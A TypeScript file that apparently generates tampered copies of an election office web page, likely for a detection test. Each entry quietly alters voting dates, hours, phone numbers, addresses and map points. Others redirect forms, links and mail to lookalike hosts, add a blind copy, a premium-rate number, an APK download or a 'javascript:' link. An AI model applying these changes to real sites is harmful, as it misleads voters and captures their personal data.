// Changes of facts outside the visible text, of contacts and of destinations.
import { raw, every, tail, below, t, wrong, turn, twin, POSTPONED, later } from './attack.ts'
import type { Change } from './attack.ts'
import { iso, pad, esc } from './draw.ts'

/** Replaces within the first script of a type. */
function within(a: { html: string }, open: string, from: string, to: string): void {
  const at = a.html.indexOf(open)
  const end = a.html.indexOf('</script>', at)
  if (at < 0) return
  a.html = a.html.slice(0, at) + a.html.slice(at, end).split(from).join(to) + a.html.slice(end)
}
const LD = '<script type="application/ld+json">'
/** Replaces in every inline script that is no structured data, plain or within a quoted text. */
const inState = (a: { html: string }, from: string, to: string): void => {
  a.html = a.html.replace(/<script(?![^>]*ld\+json)[^>]*>[\s\S]*?<\/script>/g, (m) =>
    m.split(from).join(to).split(from.replace(/"/g, '\\"')).join(to.replace(/"/g, '\\"')),
  )
}

export const ATTACKS_B: Change[] = [
  // [ld-end] The end of the vote in the structured data, three hours earlier.
  {
    id: 'ld-end',
    class: 'fact-hidden',
    do: (a, s) =>
      within(
        a,
        LD,
        `${iso(s.election)}T${pad(s.close)}:00`,
        `${iso(s.election)}T${pad(s.close - 3)}:00`,
      ),
  },
  // [ld-phone] The telephone in the structured data.
  { id: 'ld-phone', class: 'fact-hidden', do: (a, s) => within(a, LD, s.tel, turn(s.tel)) },
  // [ld-address] The address of the office in the structured data.
  {
    id: 'ld-address',
    class: 'fact-hidden',
    do: (a, s) =>
      within(
        a,
        LD,
        `"streetAddress":"${s.addr}"`,
        `"streetAddress":"${s.L.street(s.L.streets[3]!, 77)}"`,
      ),
  },
  // [ld-date] The day of the vote in the structured data.
  {
    id: 'ld-date',
    class: 'fact-hidden',
    do: (a, s) => within(a, LD, iso(s.election) + 'T', iso(s.election + 1) + 'T'),
  },
  // [ld-postponed] The structured data call the vote postponed.
  {
    id: 'ld-postponed',
    class: 'fact-hidden',
    do: (a) => within(a, LD, 'EventScheduled', 'EventPostponed'),
  },
  // [time-datetime] The machine's date beside the readable one.
  {
    id: 'time-datetime',
    class: 'fact-hidden',
    do: (a, s) => every(a, `datetime="${iso(s.election)}T`, `datetime="${iso(s.election + 2)}T`),
  },
  // [state-close] The closing hour in the state the page is drawn from.
  {
    id: 'state-close',
    class: 'fact-hidden',
    do: (a, s) => inState(a, `"closes":"${pad(s.close)}:00"`, `"closes":"${pad(s.close - 2)}:00"`),
  },
  // [state-api] The host of the programming interface in the state.
  {
    id: 'state-api',
    class: 'fact-hidden',
    do: (a, s) => inState(a, s.origin + '/api', `https://api.${twin(s)}/api`),
  },
  // [state-phone] The telephone in the state.
  {
    id: 'state-phone',
    class: 'fact-hidden',
    do: (a, s) => inState(a, `"phone":"${s.tel}"`, `"phone":"${wrong(s.tel)}"`),
  },
  // [state-stations] Two station addresses exchanged in the state.
  {
    id: 'state-stations',
    class: 'fact-hidden',
    do: (a, s) => {
      const [x, y] = [s.stations[0]!.addr, s.stations[1]!.addr].map((v) => `"address":"${v}"`)
      inState(a, x!, '"address":"\u0000"')
      inState(a, y!, x!)
      inState(a, '"address":"\u0000"', y!)
    },
  },
  // [geo-exchanged] Coordinates in data attributes exchanged between two stations.
  {
    id: 'geo-exchanged',
    class: 'fact-hidden',
    do: (a, s) => {
      const g = (i: number) => `data-lat="${s.stations[i]!.lat}" data-lon="${s.stations[i]!.lon}"`
      if (a.html.includes(g(0))) {
        every(a, g(0), '\u0000')
        every(a, g(1), g(0))
        every(a, '\u0000', g(1))
      }
    },
  },
  // [og-description] The text that social networks show.
  {
    id: 'og-description',
    class: 'fact-hidden',
    do: (a, s) =>
      raw(
        a,
        /<meta property="og:description" content="[^"]*">/,
        `<meta property="og:description" content="${t(s, POSTPONED)}">`,
      ),
  },
  // [description-date] The description for search engines names another day.
  {
    id: 'description-date',
    class: 'fact-hidden',
    do: (a, s) =>
      raw(
        a,
        /<meta name="description" content="[^"]*">/,
        `<meta name="description" content="${esc(s.L.hours(s.L.span(s.open, s.close), later(s, 1)))}">`,
      ),
  },
  // [title-postponed] The title in the tab.
  {
    id: 'title-postponed',
    class: 'fact-hidden',
    do: (a, s) => raw(a, '</title>', ` – ${t(s, POSTPONED)}</title>`),
  },
  // [canonical-host] The canonical address at another host.
  {
    id: 'canonical-host',
    class: 'fact-hidden',
    do: (a, s) =>
      raw(a, `rel="canonical" href="${s.origin}`, `rel="canonical" href="https://${twin(s)}`),
  },
  // [hreflang-host] The other languages at another host.
  {
    id: 'hreflang-host',
    class: 'fact-hidden',
    do: (a, s) =>
      every(
        a,
        `hreflang="${s.lang === 'en' ? 'fr' : 'en'}" href="${s.origin}`,
        `hreflang="${s.lang === 'en' ? 'fr' : 'en'}" href="https://${twin(s)}`,
      ),
  },
  // [alt-text] Another address in the text for the blind.
  {
    id: 'alt-text',
    class: 'fact-hidden',
    do: (a, s) =>
      every(
        a,
        `alt="${esc(s.stations[0]!.name + ', ' + s.stations[0]!.addr)}"`,
        `alt="${esc(s.stations[0]!.name + ', ' + s.stations[1]!.addr)}"`,
      ),
  },
  // [aria-label] What a screen reader says differs from what is written.
  {
    id: 'aria-label',
    class: 'fact-hidden',
    do: (a, s) =>
      raw(
        a,
        'id="hours"',
        `id="hours" aria-label="${esc(s.L.hours(s.L.span(s.open, s.close - 4), later(s, 1)))}"`,
      ),
  },
  // [og-url] The address that social networks keep.
  {
    id: 'og-url',
    class: 'fact-hidden',
    do: (a, s) =>
      raw(
        a,
        `property="og:url" content="${s.origin}`,
        `property="og:url" content="https://${twin(s)}`,
      ),
  },
  // [ld-office] The office closes at noon in the structured data.
  {
    id: 'ld-office',
    class: 'fact-hidden',
    do: (a, s) => within(a, LD, `"closes":"${pad(s.officeTo)}:00"`, '"closes":"12:00"'),
  },
  // [ld-url] The office has another address on the web, in the structured data.
  {
    id: 'ld-url',
    class: 'fact-hidden',
    do: (a, s) => within(a, LD, `"url":"${s.origin}/"`, `"url":"https://${twin(s)}/"`),
  },

  // [whatsapp-number] The WhatsApp account of somebody else.
  {
    id: 'whatsapp-number',
    class: 'contact',
    do: (a, s) => every(a, 'wa.me/' + s.wa, 'wa.me/' + turn(s.wa)),
  },
  // [telegram-account] A Telegram channel with a similar name.
  {
    id: 'telegram-account',
    class: 'contact',
    do: (a, s) => every(a, 't.me/' + s.tg, 't.me/' + s.tg.replace('_vote', '_votes')),
  },
  // [tel-target] The number that is dialled differs from the one that is written.
  {
    id: 'tel-target',
    class: 'contact',
    do: (a, s) => every(a, 'href="tel:' + s.tel, 'href="tel:' + wrong(s.tel)),
  },
  // [mailto-target] The mail goes elsewhere than written.
  {
    id: 'mailto-target',
    class: 'contact',
    do: (a, s) => every(a, 'mailto:' + s.mail, 'mailto:' + s.mail.replace('@vote-', '@vote')),
  },
  // [mailto-bcc] A blind copy of every mail.
  {
    id: 'mailto-bcc',
    class: 'contact',
    do: (a, s) =>
      every(a, `mailto:${s.mail}"`, `mailto:${s.mail}?bcc=office.vote${s.n}@mail.example"`),
  },
  // [map-point] The map shows another place.
  {
    id: 'map-point',
    class: 'contact',
    do: (a, s) => every(a, `?q=${s.lat},${s.lon}`, `?q=${(+s.lat + 0.031).toFixed(5)},${s.lon}`),
  },
  // [map-station] The map of one station shows another place.
  {
    id: 'map-station',
    class: 'contact',
    do: (a, s) =>
      every(
        a,
        `?q=${s.stations[1]!.lat},${s.stations[1]!.lon}`,
        `?q=${s.stations[1]!.lat},${(+s.stations[1]!.lon - 0.02).toFixed(5)}`,
      ),
  },
  // [qr-picture] Another picture for the telephone camera.
  {
    id: 'qr-picture',
    class: 'contact',
    do: (a, s) => every(a, `/media/qr-${s.n}.png`, `/media/uploads/qr-${s.n}-2.png`),
  },
  // [signal-added] A new account to write to.
  {
    id: 'signal-added',
    class: 'contact',
    do: (a, s) =>
      raw(
        a,
        `<h3>${s.L.ui['office']}`,
        `<p>Signal <a href="https://signal.me/#p/+${turn(s.wa)}">${s.L.ui['chat']!.replace('WhatsApp', 'Signal').replace('واتساب', 'Signal')}</a></p><h3>${s.L.ui['office']}`,
      ),
  },
  // [callback-number] A sentence with a number of high cost.
  {
    id: 'callback-number',
    class: 'contact',
    do: (a, s) =>
      below(
        a,
        `<p>${t(s, { en: 'Questions? Call 0900 555 010.', fr: 'Des questions ? Appelez le 0900 555 010.', es: '¿Preguntas? Llame al 0900 555 010.', pt: 'Dúvidas? Ligue 0900 555 010.', de: 'Fragen? Rufen Sie 0900 555 010 an.', ru: 'Вопросы? Звоните 0900 555 010.', ar: 'أسئلة؟ اتصلوا بالرقم 0900 555 010.', zh: '有疑问?请拨打0900 555 010。' })}</p>`,
      ),
  },

  // [form-host] The form sends to another host.
  {
    id: 'form-host',
    class: 'destination',
    do: (a, s) => every(a, 'action="/register/', `action="https://${twin(s)}/register/`),
  },
  // [form-get] The form shows what it sends.
  { id: 'form-get', class: 'destination', do: (a) => raw(a, / method="post">/, ' method="get">') },
  // [form-recipient] The hidden recipient of the form.
  {
    id: 'form-recipient',
    class: 'destination',
    do: (a, s) =>
      every(
        a,
        `name="recipient" value="${s.mail}"`,
        `name="recipient" value="office-${s.n}@mail.example"`,
      ),
  },
  // [form-next] The page that follows after sending.
  {
    id: 'form-next',
    class: 'destination',
    do: (a, s) =>
      every(a, 'name="next" value="/register/thanks"', `name="next" value="//${twin(s)}/thanks"`),
  },
  // [register-link] The link about registering leads to an imitation.
  {
    id: 'register-link',
    class: 'destination',
    do: (a, s) => every(a, 'href="/register"', `href="https://register-vote-${s.n}.example/"`),
  },
  // [redirect-parameter] The way back after signing in.
  {
    id: 'redirect-parameter',
    class: 'destination',
    do: (a, s) =>
      every(a, 'return=%2Fregister%2Fstatus', `return=https%3A%2F%2F${twin(s)}%2Fstatus`),
  },
  // [provider-form] A form of a well-known provider.
  {
    id: 'provider-form',
    class: 'destination',
    do: (a, s) =>
      below(
        a,
        `<p><a href="https://docs.google.com/forms/d/e/1FAIpQLSd${s.yt}/viewform">${s.L.ui['reg']}</a></p>`,
      ),
  },
  // [base-address] Every relative link leads to another host.
  {
    id: 'base-address',
    class: 'destination',
    do: (a, s) =>
      raw(a, '<meta charset="utf-8">', `<meta charset="utf-8">\n<base href="https://${twin(s)}/">`),
  },
  // [button-action] The button has a destination of its own.
  {
    id: 'button-action',
    class: 'destination',
    do: (a, s) =>
      raw(
        a,
        '<button type="submit"',
        `<button type="submit" formaction="https://${twin(s)}/collect"`,
      ),
  },
  // [results-link] The link to the results leads elsewhere.
  {
    id: 'results-link',
    class: 'destination',
    do: (a, s) => every(a, 'href="/results"', `href="https://results.${twin(s)}/"`),
  },
  // [guide-file] The brochure comes from another host.
  {
    id: 'guide-file',
    class: 'destination',
    do: (a, s) =>
      every(
        a,
        `href="/media/guide-${s.n}.pdf"`,
        `href="https://files-vote.example/guide-${s.n}.pdf"`,
      ),
  },
  // [app-download] A program to install.
  {
    id: 'app-download',
    class: 'destination',
    do: (a, s) =>
      below(
        a,
        `<p><a href="/media/uploads/vote-${s.n}.apk" download>${t(s, { en: 'Download our new voting app', fr: 'Téléchargez notre nouvelle application', es: 'Descargue nuestra nueva aplicación', pt: 'Baixe nosso novo aplicativo', de: 'Laden Sie unsere neue App', ru: 'Скачайте наше новое приложение', ar: 'حملوا تطبيقنا الجديد', zh: '下载我们的新应用' })}</a></p>`,
      ),
  },
  // [user-info] A link that looks like the site's own and is not.
  {
    id: 'user-info',
    class: 'destination',
    do: (a, s) => every(a, 'href="/where"', `href="https://${s.host}@where.example/"`),
  },
  // [search-host] The search box sends to another host.
  {
    id: 'search-host',
    class: 'destination',
    do: (a, s) => raw(a, 'action="/search"', `action="https://find.${twin(s)}/search"`),
  },
  // [donation-link] A request for money.
  {
    id: 'donation-link',
    class: 'destination',
    do: (a, s) =>
      tail(
        a,
        `<p><a href="https://www.paypal.com/donate/?hosted_button_id=${s.ga.slice(2)}">${t(s, { en: 'Support our work with a donation', fr: 'Soutenez-nous par un don', es: 'Apóyenos con una donación', pt: 'Apoie-nos com uma doação', de: 'Unterstützen Sie uns mit einer Spende', ru: 'Поддержите нас пожертвованием', ar: 'ادعمونا بتبرع', zh: '捐款支持我们' })}</a></p>`,
      ),
  },
  // [privacy-link] The link about privacy runs script.
  {
    id: 'privacy-link',
    class: 'destination',
    do: (a, s) => every(a, 'href="/privacy"', `href="javascript:location='https://${twin(s)}'"`),
  },
]
